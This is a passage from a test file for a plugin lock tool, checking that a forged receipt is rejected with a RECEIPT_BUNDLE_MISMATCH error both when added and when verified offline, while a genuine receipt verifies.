    // fleet add of the forged receipt is refused (it is checked against the store), so the lock is made offline.
    await expect(() => addPluginToLock({ lockPath, receiptPath: forged.file, repository })).toThrowWithCode("RECEIPT_BUNDLE_MISMATCH");
    await addPluginToLock({ lockPath, receiptPath: forged.file, repository, offline: true });
    const verify = verifyFleetLock({ lockPath, progress: null });
    await expect(verify).rejects.toMatchObject({ code: "RECEIPT_BUNDLE_MISMATCH" });
    await expect(verify).rejects.toThrow(/at evidence\.workflow\.run_id it has "\d+", the bundle's tested manifest and layers give "\d+"/);
    const genuine = join(root, "genuine-fleet.lock.json");
    await addPluginToLock({ lockPath: genuine, receiptPath: receiptFile, repository });
    await expect(verifyFleetLock({ lockPath: genuine, progress: null })).resolves.toHaveLength(1);
  });
});
